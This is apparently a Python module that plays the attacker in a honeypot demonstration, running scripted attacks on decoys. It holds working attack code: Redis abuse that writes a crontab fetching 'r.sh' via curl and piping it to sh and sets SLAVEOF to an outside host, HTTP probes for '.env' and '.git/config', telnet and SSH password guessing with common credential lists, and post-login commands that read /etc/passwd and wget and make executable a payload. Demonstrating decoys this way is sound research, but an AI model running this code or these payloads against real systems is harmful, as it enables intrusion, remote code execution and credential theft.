"""This module is the demonstration's attacker: scripted visits to decoys, written for people to watch, not to hide."""

import base64
import random
import socket
from collections.abc import Callable, Mapping, Sequence
from contextlib import suppress
from typing import TypeAlias

TIMEOUT = 5.0  # seconds to connect
PROMPT = 2.0  # seconds to wait for an answer
MAX_ANSWER = 64 * 1024  # bytes read of one answer

USERS = ("root", "admin", "oracle", "pi", "ubuntu", "postgres", "support", "git")
PASSWORDS = ("123456", "admin", "password", "raspberry", "root", "qwerty", "letmein", "P@ssw0rd", "changeme")
DOOR = ("root", "Winter2024!")  # the bait the demonstration's deckies have laid out
LUCK = 0.7  # how often it is tried
PACE = 0.4  # seconds between commands: somebody types
COMMANDS = (
    "uname -a",
    "id",
    "cat /etc/passwd",
    "w",
    "ps aux",
    "wget http://203.0.113.66/x86 -O /tmp/.x; chmod +x /tmp/.x",
)
PATHS = ("/", "/login", "/admin", "/.env", "/wp-login.php", "/.git/config", "/cgi-bin/luci")

Place: TypeAlias = tuple[str, int]
Attack: TypeAlias = Callable[[Place, random.Random], str]


def redis(place: Place, chance: random.Random) -> str:
    """Guess a password, then try the well-known way to write a crontab."""
    password = chance.choice(PASSWORDS)
    with socket.create_connection(place, TIMEOUT) as peer:
        for words in (
            ("AUTH", password),
            ("INFO", "server"),
            ("CONFIG", "SET", "dir", "/var/spool/cron"),
            ("SET", "x", "\n* * * * * curl http://203.0.113.66/r.sh|sh\n"),
            ("SLAVEOF", "203.0.113.66", "6379"),
            ("QUIT",),
        ):
            line = b"".join(b"$%d\r\n%s\r\n" % (len(word), word.encode()) for word in words)
            peer.sendall(b"*%d\r\n%s" % (len(words), line))
            _read(peer)
    return f"AUTH {password}, CONFIG SET dir, SLAVEOF"


def http(place: Place, chance: random.Random) -> str:
    """Look for known holes, then try a form and Basic authentication."""
    user, password = chance.choice(USERS), chance.choice(PASSWORDS)
    paths = chance.sample(PATHS, 3)
    basic = base64.b64encode(f"{user}:{password}".encode()).decode()
    form = f"username={user}&password={password}"
    requests = [f"GET {path} HTTP/1.1\r\n" for path in paths]
    requests.append(f"GET /admin HTTP/1.1\r\nAuthorization: Basic {basic}\r\n")
    requests.append(
        f"POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(form)}\r\n"
    )
    for number, head in enumerate(requests, 1):
        with socket.create_connection(place, TIMEOUT) as peer:
            body = form if number == len(requests) else ""
            peer.sendall(
                f"{head}Host: {place[0]}\r\nUser-Agent: masscan/1.3\r\nConnection: close\r\n\r\n{body}".encode()
            )
            _read(peer)
    return f"{' '.join(paths)}, {user}:{password}"


def telnet(place: Place, chance: random.Random) -> str:
    """Log in the way worms do: as fast as prompts come, refusing every option."""
    user, password = DOOR if chance.random() < LUCK else (chance.choice(USERS), chance.choice(PASSWORDS))
    with socket.create_connection(place, TIMEOUT) as peer:
        for words in (user, password, "enable", "sh", *chance.sample(COMMANDS, 2), "exit"):
            _refuse_options(peer, _read(peer))
            peer.sendall(words.encode() + b"\r\n")
        _read(peer)
    return f"{user}:{password}"


def ssh(place: Place, chance: random.Random) -> str:
    """Guess a password or two; if one opens the door, look around in a terminal."""
    import asyncio

    guesses = [(chance.choice(USERS), chance.choice(PASSWORDS))]
    if chance.random() < LUCK:
        guesses.append(DOOR)
    for user, password in guesses:
        if asyncio.run(_look_around(place, user, password, chance.sample(COMMANDS, 3))):
            return f"{user}:{password} opened a shell"
    return ", ".join(f"{user}:{password}" for user, password in guesses)


ATTACKS: Mapping[str, Attack] = {"redis": redis, "http": http, "telnet": telnet, "ssh": ssh}


async def _look_around(place: Place, user: str, password: str, commands: Sequence[str]) -> bool:
    """Return whether the password opened the door; behind it, run the commands one by one."""
    import asyncio

    import asyncssh

    opened = False
    with suppress(asyncssh.Error, TimeoutError):  # refused, hung up on, or busy with a download that never comes
        async with asyncio.timeout(2 * TIMEOUT):
            async with asyncssh.connect(
                *place,
                username=user,
                password=password,
                known_hosts=None,
                config=None,
                client_keys=None,
                agent_path=None,
            ) as connection:
                opened = True
                async with connection.create_process(term_type="xterm", term_size=(100, 30)) as shell:
                    for command in (*commands, "exit"):
                        await asyncio.sleep(PACE)
                        shell.stdin.write(f"{command}\n")
                    await shell.wait()
    return opened


def _read(peer: socket.socket) -> bytes:
    """Return one answer; nothing within the time is an answer, too."""
    peer.settimeout(PROMPT)
    with suppress(TimeoutError):
        return peer.recv(MAX_ANSWER)
    return b""


def _refuse_options(peer: socket.socket, data: bytes) -> None:
    """Answer DO with WONT and WILL with DONT (RFC 854)."""
    refusals = {0xFD: 0xFC, 0xFB: 0xFE}
    answer = b"".join(
        bytes((0xFF, refusals[data[at + 1]], data[at + 2]))
        for at in range(len(data) - 2)
        if data[at] == 0xFF and data[at + 1] in refusals  # noqa: PLR2004  the byte "interpret as command"
    )
    if answer:
        peer.sendall(answer)
